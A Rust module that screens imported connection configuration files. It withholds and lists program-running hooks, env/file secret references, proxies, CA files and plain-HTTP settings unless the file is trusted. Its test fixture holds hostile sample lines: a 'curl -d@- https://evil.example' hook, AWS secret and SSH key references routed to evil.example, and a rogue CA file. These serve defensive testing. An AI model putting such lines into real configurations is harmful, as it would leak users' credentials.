//! Connections from one machine to another: a file like the configuration, read with suspicion.
//!
//! A file that somebody sends may name programs to run, values to send to its own hosts, and ways on which others read
//! a key. They are left out unless the reader trusts it, and listed so that they can decide.

use std::collections::HashSet;
use std::path::Path;
use std::sync::Arc;

use super::configuration::{self, Configuration, ConfigurationProblem, EditProblem, Settings};
use crate::domain::endpoint::redacted;
use crate::domain::text::inert;
use crate::domain::{Connection, Endpoint, Name, SecretRef};

/// What a file brings.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Import {
    /// Settings and connections, without what was withheld.
    pub configuration: Configuration,
    /// What was left out; what was let in, where the file is trusted.
    pub sensitive: Vec<Sensitive>,
}

/// Something in a file that runs a program, sends a value of this machine away, or a key another way.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sensitive {
    /// The connection, or nothing for a setting.
    pub connection: Option<Name>,
    /// `key`, `token`, `added/LABEL`, `proxy`, `ca_file`, `allow_http`, `on_change`, `clipboard_command`,
    /// `command_variables`.
    pub field: String,
    /// One inert line: the program that would run, or what would be read and the host it would go to.
    pub what: String,
}

impl Sensitive {
    /// A setting of those of [`programs`].
    pub fn of_setting(field: &str, words: &[String]) -> Self {
        let named = inert(&words.join(" "), 200);
        Self {
            connection: None,
            field: field.to_owned(),
            what: if words.is_empty() {
                "is switched off".to_owned()
            } else if field == "command_variables" {
                format!("hands these variables to programs: {named}")
            } else {
                format!("runs {}", program(words))
            },
        }
    }
}

/// A program and its arguments in one inert line, quoted as a shell reads them where blanks alone would part them
/// otherwise: it is what somebody decides by.
fn program(words: &[String]) -> String {
    let line = SecretRef::Cmd(words.to_vec()).to_string();
    inert(line.strip_prefix("cmd:").unwrap_or(&line), 200)
}

/// The settings that run a program, or hand one something, by their keys.
pub const fn programs(settings: &mut Settings) -> [(&'static str, &mut Vec<String>); 3] {
    [
        ("on_change", &mut settings.on_change),
        ("clipboard_command", &mut settings.clipboard_command),
        ("command_variables", &mut settings.command_variables),
    ]
}

/// Which settings a file says anything about, by their keys.
pub fn settings_said(text: &str) -> Vec<String> {
    let table = text.parse::<toml::Table>().unwrap_or_default();
    let settings = table.get("settings").and_then(toml::Value::as_table);
    settings.map_or_else(Vec::new, |settings| settings.keys().cloned().collect())
}

/// `connections` as a file that [`import`] and the configuration itself understand. It holds references, no
/// secret.
pub fn export(connections: &[Connection]) -> Result<String, EditProblem> {
    configuration::compose(connections)
}

/// Reads the file at `path`, whose text is `text`. Without `trust`, references of the kinds `cmd:`, `file:`
/// and `env:` and the settings that run programs are left out; either way they are listed.
pub fn import(path: &Path, text: &str, trust: bool) -> Result<Import, ConfigurationProblem> {
    let mut configuration = configuration::read_text(path, text)?;
    let mut sensitive = Vec::new();
    let settings = &mut configuration.settings;
    for (field, words) in programs(settings) {
        if words.is_empty() {
            continue;
        }
        sensitive.push(Sensitive::of_setting(field, words));
        if !trust {
            words.clear();
        }
    }
    // Its relative paths are beside it, as those of the configuration are; `~/…` is resolved where it is saved.
    let whole = std::path::absolute(path).unwrap_or_default();
    for connection in &mut configuration.connections {
        let connection = Arc::make_mut(connection);
        connection.make_paths_whole(whole.parent().unwrap_or(path), None);
        sensitive.extend(screen(connection, trust, None));
    }
    Ok(Import {
        configuration,
        sensitive,
    })
}

/// Lists what is sensitive in `connection`, and takes it out unless trusted. What stands in `here`, for the
/// same URL, is no news.
pub fn screen(
    connection: &mut Connection,
    trust: bool,
    here: Option<&Connection>,
) -> Vec<Sensitive> {
    let to = host(&connection.url);
    let cms = connection
        .cms_url
        .as_deref()
        .map_or_else(|| to.clone(), host);
    let name = connection.name.clone();
    let mut found = Vec::new();
    let here = here.filter(|here| here.url == connection.url && here.cms_url == connection.cms_url);
    let known = here.map(known).unwrap_or_default();
    let mut check = |field: String, reference: &SecretRef, to: &str| {
        if known.contains(&(field.clone(), reference.clone())) {
            return true;
        }
        let what = match reference {
            SecretRef::Cmd(words) => {
                format!("runs {} and sends what it prints to {to}", program(words))
            }
            SecretRef::File(_) | SecretRef::Env(_) => {
                format!(
                    "sends the value of {} to {to}",
                    inert(&reference.to_string(), 200)
                )
            }
            SecretRef::Keyring(_) | SecretRef::Vault(_) | SecretRef::Ask => return true,
        };
        found.push(Sensitive {
            connection: Some(name.clone()),
            field,
            what,
        });
        trust
    };
    connection
        .key
        .take_if(|key| !check("key".to_owned(), key, &to));
    connection
        .token
        .take_if(|token| !check("token".to_owned(), token, &cms));
    connection
        .added
        .retain(|(label, reference)| check(format!("added/{label}"), reference, &to));
    found
}

/// The secrets that connections here use.
#[derive(Debug)]
pub struct UsedSecrets(HashSet<SecretRef>);

impl UsedSecrets {
    /// Those of `here`.
    pub fn of(here: &[Arc<Connection>]) -> Self {
        let all = here.iter().flat_map(|connection| known(connection));
        let all = all.map(|(_, reference)| reference);
        Self(all.filter(|one| *one != SecretRef::Ask).collect())
    }

    /// Whether a secret that is used here would go the way of `connection`, which is `before` here.
    pub fn go_by(&self, connection: &Connection, before: Option<&Connection>) -> bool {
        before.is_some_and(|before| !known(before).is_empty())
            || known(connection)
                .iter()
                .any(|(_, one)| self.0.contains(one))
    }
}

/// Lists what has the key of `connection` go another way than `here`: by another proxy, to whomever further authorities
/// vouch for, in the clear. Its origin is the same then, which it is bound to. Unless trusted, that stays as it is.
pub fn screen_way(
    connection: &mut Connection,
    trust: bool,
    here: Option<&Connection>,
) -> Vec<Sensitive> {
    let (to, name) = (host(&connection.url), connection.name.clone());
    let (proxy, ca_file, allow_http) = here.map_or((None, None, false), |here| {
        (here.proxy.clone(), here.ca_file.clone(), here.allow_http)
    });
    let mut found = Vec::new();
    let mut list = |field: &str, what: String| {
        found.push(Sensitive {
            connection: Some(name.clone()),
            field: field.to_owned(),
            what,
        });
        !trust
    };
    if connection.proxy != proxy {
        let stays = match &connection.proxy {
            Some(proxy) => {
                let proxy = inert(&redacted(proxy), 200);
                list("proxy", format!("sends what goes to {to} by {proxy}"))
            }
            // It may be what hides a plain text.
            None if to.starts_with("http:") => {
                let what = format!("sends what goes to {to} past the proxy that is set here");
                list("proxy", what)
            }
            None => false,
        };
        if stays {
            connection.proxy = proxy;
        }
    }
    if let Some(file) = connection
        .ca_file
        .as_ref()
        .filter(|_| connection.ca_file != ca_file)
    {
        let file = inert(&file.display().to_string(), 200);
        if list(
            "ca_file",
            format!("lets whomever {file} vouches for be {to}"),
        ) {
            connection.ca_file = ca_file;
        }
    }
    if connection.allow_http
        && !allow_http
        && list(
            "allow_http",
            format!("lets the key go to {to} in the clear"),
        )
    {
        connection.allow_http = false;
    }
    found
}

/// Every reference of a connection with its field.
fn known(connection: &Connection) -> Vec<(String, SecretRef)> {
    let single = [("key", &connection.key), ("token", &connection.token)];
    let single = single
        .into_iter()
        .filter_map(|(field, reference)| Some((field.to_owned(), reference.clone()?)));
    let added = connection.added.iter();
    let added = added.map(|(label, reference)| (format!("added/{label}"), reference.clone()));
    single.chain(added).collect()
}

/// A field in which two connections differ, as the file would have it; nothing where it is the default.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Difference {
    /// The key in the file.
    pub field: &'static str,
    /// As it is now; inert.
    pub before: Option<String>,
    /// As it would be; inert.
    pub after: Option<String>,
}

/// The fields in which `after` differs from `before`.
pub fn differences(
    before: &Connection,
    after: &Connection,
) -> Result<Vec<Difference>, EditProblem> {
    let (before, after) = (
        configuration::written(before)?,
        configuration::written(after)?,
    );
    let shown = |text: Option<String>| text.map(|text| inert(text.trim(), 200));
    Ok(before
        .into_iter()
        .zip(after)
        .filter(|((_, old), (_, new))| old != new)
        .map(|((field, old), (_, new))| Difference {
            field,
            before: shown(old),
            after: shown(new),
        })
        .collect())
}

fn host(url: &str) -> String {
    match Endpoint::parse(url) {
        Ok(endpoint) => endpoint.origin().to_string(),
        Err(_) => "a URL that can't be read".to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::ServiceId;

    const TEXT: &str = r#"version = 1
        [settings]
        on_change = ["curl", "-d@-", "https://evil.example"]
        bell = true
        [[connection]]
        name = "shop"
        service = "http"
        url = "https://evil.example/x"
        key = "env:AWS_SECRET_ACCESS_KEY"
        token = ["cmd:sh", "-c", "a b"]
        cms_url = "https://cms.example"
        added = { id = "file:/home/a/.ssh/id", mine = "vault:x" }
    "#;

    fn read(trust: bool) -> Import {
        import(Path::new("sent.toml"), TEXT, trust).unwrap()
    }

    #[test]
    fn what_runs_programs_or_sends_values_is_left_out_and_listed() {
        let import = read(false);
        let connection = &import.configuration.connections[0];
        assert_eq!((&connection.key, &connection.token), (&None, &None));
        assert_eq!(
            connection.added,
            [("mine".to_owned(), "vault:x".parse().unwrap())]
        );
        assert_eq!(import.configuration.settings.on_change, [""; 0]);
        assert!(import.configuration.settings.bell);
        let lines: Vec<String> = import
            .sensitive
            .iter()
            .map(|one| format!("{}: {}", one.field, one.what))
            .collect();
        assert_eq!(
            lines,
            [
                "on_change: runs curl -d@- https://evil.example",
                "key: sends the value of env:AWS_SECRET_ACCESS_KEY to https://evil.example",
                "token: runs sh -c 'a b' and sends what it prints to https://cms.example",
                "added/id: sends the value of file:/home/a/.ssh/id to https://evil.example",
            ]
        );
    }

    #[test]
    fn a_program_is_named_with_the_borders_of_its_arguments() {
        let of = |words: &[&str]| {
            let words: Vec<String> = words.iter().copied().map(str::to_owned).collect();
            Sensitive::of_setting("on_change", &words).what
        };
        assert_eq!(of(&["/bin/my prog", "x"]), "runs '/bin/my prog' x");
        assert_eq!(of(&["sh", "-c", "echo x y"]), "runs sh -c 'echo x y'");
        assert_eq!(of(&["pass", "shop"]), "runs pass shop");
    }

    #[test]
    fn a_trusted_file_is_taken_whole_and_still_listed() {
        let import = read(true);
        assert!(import.configuration.connections[0].key.is_some());
        assert_eq!(import.configuration.connections[0].added.len(), 2);
        assert_eq!(import.configuration.settings.on_change.len(), 3);
        assert_eq!(import.sensitive.len(), 4);
    }

    #[test]
    fn what_has_a_key_go_another_way_stays_as_it_is_unless_trusted() {
        let of = |more: &str| {
            let text = format!(
                "version = 1\n[[connection]]\nname = \"shop\"\nservice = \"http\"\nurl = \"http://a.example\"\n{more}\n"
            );
            let read = import(Path::new("/sent.toml"), &text, true).unwrap();
            Connection::clone(&read.configuration.connections[0])
        };
        let (proxy, other) = ("proxy = \"http://p:1\"", "proxy = \"socks5://q:1\"");
        let by_proxy = "proxy: sends what goes to http://a.example by http://p:1";
        let evil = "ca_file: lets whomever /evil.pem vouches for be http://a.example";
        let (ca_file, own) = ("ca_file = \"/evil.pem\"", "ca_file = \"/own.pem\"");
        let in_clear = "allow_http: lets the key go to http://a.example in the clear";
        let past = "proxy: sends what goes to http://a.example past the proxy that is set here";
        for (here, file, told) in [
            ("", proxy, by_proxy),
            (other, proxy, by_proxy),
            (other, "", past),
            ("", ca_file, evil),
            (own, ca_file, evil),
            ("", "allow_http = true", in_clear),
        ] {
            let (here, wanted) = (of(here), of(file));
            let mut kept = wanted.clone();
            let listed = screen_way(&mut kept, false, Some(&here));
            let lines = listed
                .iter()
                .map(|one| format!("{}: {}", one.field, one.what));
            assert_eq!(lines.collect::<Vec<_>>(), [told]);
            assert_eq!(kept, here, "{told}");
            let mut taken = wanted.clone();
            assert_eq!(screen_way(&mut taken, true, Some(&here)), listed);
            assert_eq!(taken, wanted, "{told}");
            assert_eq!(screen_way(&mut taken, false, Some(&wanted)), []);
            assert_eq!(taken, wanted, "what is here is no news: {told}");
        }
        // A way that is closed needs nobody's word.
        for here in [own, "allow_http = true"] {
            let mut closed = of("");
            assert_eq!(screen_way(&mut closed, false, Some(&of(here))), []);
            assert_eq!(closed, of(""));
        }
    }

    #[test]
    fn what_is_here_is_no_news_in_its_own_place_and_for_its_own_hosts_alone() {
        let of = |url: &str, cms: &str, key: &str, token: &str| {
            let text = format!(
                "version = 1\n[[connection]]\nname = \"shop\"\nservice = \"blesta\"\nurl = \"{url}\"\n\
                 cms_url = \"{cms}\"\nkey = \"{key}\"\ntoken = \"{token}\"\n"
            );
            let read = import(Path::new("/sent.toml"), &text, true).unwrap();
            Connection::clone(&read.configuration.connections[0])
        };
        let (a, cms, evil) = (
            "https://a.example",
            "https://cms.example",
            "https://evil.example",
        );
        let (key, token) = ("env:KEY", "env:TOKEN");
        let here = of(a, cms, key, token);
        assert_eq!(screen(&mut here.clone(), false, Some(&here)), []);
        for (mut sent, key_goes, token_goes) in [
            (of(evil, cms, key, token), (key, evil), (token, cms)),
            (of(a, evil, key, token), (key, a), (token, evil)),
            (of(a, cms, token, key), (token, a), (key, cms)),
        ] {
            let found = screen(&mut sent, false, Some(&here));
            let lines = found
                .iter()
                .map(|one| format!("{}: {}", one.field, one.what));
            let told = |field: &str, (value, to): (&str, &str)| {
                format!("{field}: sends the value of {value} to {to}")
            };
            let expected = [told("key", key_goes), told("token", token_goes)];
            assert_eq!(lines.collect::<Vec<_>>(), expected);
            assert_eq!((sent.key, sent.token), (None, None));
        }
    }

    #[test]
    fn what_is_exported_is_imported_again() {
        let mut connection = Connection::new(
            Name::parse("shop").unwrap(),
            ServiceId::blesta(),
            "https://a.example",
        );
        connection.key = Some("vault:shop/key".parse().unwrap());
        let text = export(std::slice::from_ref(&connection)).unwrap();
        let import = import(Path::new("x"), &text, false).unwrap();
        assert_eq!(
            (import.configuration.connections, import.sensitive),
            (vec![Arc::new(connection)], vec![])
        );
    }

    #[test]
    fn a_file_that_does_not_fit_is_named() {
        let problem =
            import(Path::new("sent.toml"), "version = 1\nsettings = 1\n", false).unwrap_err();
        assert!(
            problem.to_string().starts_with("sent.toml, line 2"),
            "{problem}"
        );
    }
}
